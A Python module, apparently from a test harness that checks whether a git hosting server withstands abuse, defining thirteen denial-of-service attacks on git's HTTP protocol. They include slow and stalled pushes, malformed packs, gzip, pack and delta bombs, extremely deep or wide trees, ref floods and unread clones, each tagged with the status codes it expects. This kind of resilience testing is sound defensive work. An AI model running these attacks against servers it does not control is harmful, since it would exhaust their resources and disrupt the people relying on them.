"""Attacks in git's protocol."""

import asyncio
import os
import zlib

from dulwich.objects import Blob, Tree

from scripts.attacks.attack import (
    Answers,
    Attack,
    again_and_again,
    at_once,
    attack,
    connection,
    fetch,
    head_of,
    main_commit,
    push,
    read_status,
    send,
    session,
    until_answered,
)
from scripts.attacks.git import (
    BLOB,
    CAPABILITIES,
    FETCH_CAPABILITIES,
    FLUSH,
    OFS_DELTA,
    ZERO,
    commit_of,
    delta,
    entry,
    line,
    offset,
    pack_of,
    push_of,
    raw_pack,
    zeros,
)
from scripts.attacks.ground import Target

RECEIVE = {"Content-Type": "application/x-git-receive-pack-request"}
UPLOAD = {"Content-Type": "application/x-git-upload-pack-request"}


async def _pushes(target: Target, answers: Answers, *packs: bytes) -> None:
    async with session() as http:

        async def one(place: int) -> None:
            body = push_of(ZERO, b"1" * 40, packs[place % len(packs)], b"refs/heads/siege")
            await push(http, target, answers, body)

        await again_and_again(target.many(8), one)


@attack("pushes of which two bytes come", "408", "cut")
async def stalled_pushes(target: Target, answers: Answers) -> None:
    headers = {**target.a.git, **RECEIVE, "Content-Length": "5000"}

    async def one(_: int) -> None:
        async with connection(target) as (reader, writer):
            writer.write(head_of(target, "POST", f"{target.repository()}/git-receive-pack", headers) + b"00")
            await read_status(reader, answers)

    await at_once(target.many(60), one)


@attack("pushes and requests for packs of which a byte comes each second", "408", "400", "cut")
async def slow_pushes(target: Target, answers: Answers) -> None:
    async def one(place: int) -> None:
        what, kind = (("git-receive-pack", RECEIVE), ("git-upload-pack", UPLOAD))[place % 2]
        headers = {**target.a.git, **kind, "Transfer-Encoding": "chunked"}
        async with connection(target) as (reader, writer):
            writer.write(head_of(target, "POST", f"{target.repository()}/{what}", headers))
            await until_answered(reader, writer, answers, b"1\r\n0\r\n")

    await at_once(target.many(60), one)


@attack("invalid packs: cut, wrong sums, wrong counts, unknown kinds, deltas of nothing", "200", "400", "cut")
async def malformed_packs(target: Target, answers: Answers) -> None:
    blob = entry(BLOB, 4, zlib.compress(b"abcd"))
    good = raw_pack([blob])
    loose = entry(OFS_DELTA, 4, zlib.compress(b"\x04\x04\x90\x04"), offset(10_000_000))
    packs = (
        b"", b"PACK", good[:-5], good[:-20] + bytes(20), raw_pack([blob], count=2**31), raw_pack([blob], count=0),
        raw_pack([entry(5, 4, zlib.compress(b"abcd"))]), raw_pack([entry(BLOB, 2**40, zlib.compress(b"abcd"))]),
        raw_pack([loose]), raw_pack([entry(BLOB, 4, b"not zlib")]), b"PACK" + b"\xff" * 4_000, os.urandom(100_000),
        b"PACK\x00\x00\x00\x63\x00\x00\x00\x01" + blob + bytes(20),
    )  # fmt: skip
    await _pushes(target, answers, *packs)


@attack("floods of empty lines and flushes", "200", "400", "413", "cut")
async def flush_floods(target: Target, answers: Answers) -> None:
    async with session() as http:

        async def one(place: int) -> None:
            what, kind = (("git-receive-pack", RECEIVE), ("git-upload-pack", UPLOAD))[place % 2]
            body = (b"0004", b"0000", b"0001", b"0005x")[place % 4] * 2_000_000
            url = f"{target.url}{target.repository()}/{what}"
            await send(http, answers, "POST", url, data=body, headers={**target.a.git, **kind})

        await again_and_again(target.many(8), one)


@attack(
    "bodies of git that claim to be compressed: some are not, some unpack to gigabytes",
    "200",
    "400",
    "413",
    "415",
    "cut",
)
async def compressed_pushes(target: Target, answers: Answers) -> None:
    packer = zlib.compressobj(9, wbits=31)
    bomb = b"".join([*(packer.compress(bytes(1 << 20)) for _ in range(300)), packer.flush()])
    async with session() as http:

        async def one(place: int) -> None:
            what, kind = (("git-receive-pack", RECEIVE), ("git-upload-pack", UPLOAD))[place % 2]
            body = (bomb, b"not gzip", bomb[:100])[place % 3]
            headers = {**target.a.git, **kind, "Content-Encoding": "gzip"}
            await send(http, answers, "POST", f"{target.url}{target.repository()}/{what}", data=body, headers=headers)

        await again_and_again(target.many(8), one)


@attack("packs of 1 MB that unpack to gigabytes", "200", "400", "413", "cut")
async def pack_bombs(target: Target, answers: Answers) -> None:
    size = 1 << 30
    bomb = await asyncio.to_thread(zeros, size)
    await _pushes(target, answers, raw_pack([entry(BLOB, size, bomb)]), raw_pack([entry(BLOB, 2**33, bomb)]))


@attack("deltas upon deltas: each a thousand times its base, and a chain of thousands", "200", "400", "413", "cut")
async def delta_bombs(target: Target, answers: Answers) -> None:
    def growing() -> bytes:
        base = bytes(0xFFFF)
        entries, size = [entry(BLOB, len(base), zlib.compress(base))], len(base)
        for _ in range(4):
            made, size = delta(size, 1_000)
            entries.append(entry(OFS_DELTA, len(made), zlib.compress(made), offset(len(entries[-1]))))
        return raw_pack(entries)

    def chain() -> bytes:
        base = bytes(0xFFFF)
        entries = [entry(BLOB, len(base), zlib.compress(base))]
        made, _ = delta(len(base), 1)
        for _ in range(target.many(20_000)):
            entries.append(entry(OFS_DELTA, len(made), zlib.compress(made), offset(len(entries[-1]))))
        return raw_pack(entries)

    await _pushes(target, answers, await asyncio.to_thread(growing), await asyncio.to_thread(chain))


async def _tree(target: Target, answers: Answers, root: bytes, objects: list[Blob | Tree]) -> None:
    """Push a tree, and wait while it is looked at."""
    async with session() as http:
        old = await main_commit(http, target)
        commit = commit_of(root, old)
        body = await asyncio.to_thread(lambda: push_of(old, commit.id, pack_of([*objects, commit])))
        await push(http, target, answers, body)
    await asyncio.Event().wait()


@attack("a tree of 100,000 pages", "200", "400", "413", "cut")
async def large_trees(target: Target, answers: Answers) -> None:
    def made() -> tuple[bytes, list[Blob | Tree]]:
        page, tree = Blob.from_string(b"# Page\n\nWords.\n"), Tree()
        for number in range(target.many(100_000)):
            tree.add(b"page-%d.md" % number, 0o100644, page.id)
        return tree.id, [page, tree]

    await _tree(target, answers, *await asyncio.to_thread(made))


@attack(
    "folders within folders, 5,000 deep, and ten to the tenth pages out of eleven trees", "200", "400", "413", "cut"
)
async def deep_trees(target: Target, answers: Answers) -> None:
    def made() -> tuple[bytes, list[Blob | Tree]]:
        page = Blob.from_string(b"# Page\n\nWords.\n")
        objects: list[Blob | Tree] = [page]
        deep, wide = Tree(), Tree()
        deep.add(b"page.md", 0o100644, page.id)
        wide.add(b"page.md", 0o100644, page.id)
        for number in range(target.many(5_000)):
            objects.append(deep)
            above = Tree()
            above.add(b"d", 0o040000, deep.id)
            deep = above
            if number < 10:
                objects.append(wide)
                above = Tree()
                for name in range(10):
                    above.add(b"w%d" % name, 0o040000, wide.id)
                wide = above
        root = Tree()
        root.add(b"deep", 0o040000, deep.id)
        root.add(b"wide", 0o040000, wide.id)
        return root.id, [*objects, deep, wide, root]

    await _tree(target, answers, *await asyncio.to_thread(made))


@attack("pushes of thousands of branches", "200", "400", "413", "cut")
async def many_refs(target: Target, answers: Answers) -> None:
    async with session() as http:
        commit = await main_commit(http, target)

        async def one(place: int) -> None:
            names = (b"refs/heads/siege-%d-%d" % (place, number) for number in range(target.many(3_000)))
            lines = b"".join(line(ZERO + b" " + commit + b" " + name + CAPABILITIES) for name in names)
            await push(http, target, answers, lines + FLUSH + raw_pack([]))

        await again_and_again(4, one)


@attack("requests for packs with 300,000 commits that the client claims to have", "200", "400", "413", "cut")
async def many_haves(target: Target, answers: Answers) -> None:
    async with session() as http:
        commit = await main_commit(http, target)
        have = b"".join(line(b"have %040x\n" % number) for number in range(target.many(300_000)))
        body = line(b"want " + commit + FETCH_CAPABILITIES) + FLUSH + have + line(b"done\n")

        async def one(_: int) -> None:
            url = f"{target.url}{target.repository()}/git-upload-pack"
            await send(http, answers, "POST", url, data=body, headers={**target.a.git, **UPLOAD})

        await again_and_again(target.many(8), one)


@attack("clones that are never read, of a repository of 40 MB", "200", "cut")
async def clones_not_read(target: Target, answers: Answers) -> None:
    async with session() as http:
        old = await main_commit(http, target)
        blob, tree = Blob.from_string(os.urandom(target.many(40_000_000))), Tree()
        tree.add(b"noise.bin", 0o100644, blob.id)
        commit = commit_of(tree.id, old)
        await push(http, target, answers, push_of(old, commit.id, pack_of([blob, tree, commit])))
        body = line(b"want " + commit.id + FETCH_CAPABILITIES) + FLUSH + line(b"done\n")
        headers = {**target.a.git, **UPLOAD, "Content-Length": str(len(body))}

        async def one(_: int) -> None:
            async with connection(target) as (reader, writer):
                writer.write(head_of(target, "POST", f"{target.repository()}/git-upload-pack", headers) + body)
                await read_status(reader, answers)
                reader._transport.pause_reading()
                await asyncio.Event().wait()

        await at_once(target.many(40), one)


@attack("clones without end", "200", "400", "cut")  # 400: the branch moved between a clone's two requests
async def clone_floods(target: Target, answers: Answers) -> None:
    async with session() as http:
        await again_and_again(target.many(30), lambda _: fetch(http, target, answers))


ATTACKS: tuple[Attack, ...] = (
    stalled_pushes, slow_pushes, malformed_packs, flush_floods, compressed_pushes, pack_bombs, delta_bombs, large_trees,
    deep_trees, many_refs, many_haves, clones_not_read, clone_floods,
)  # fmt: skip
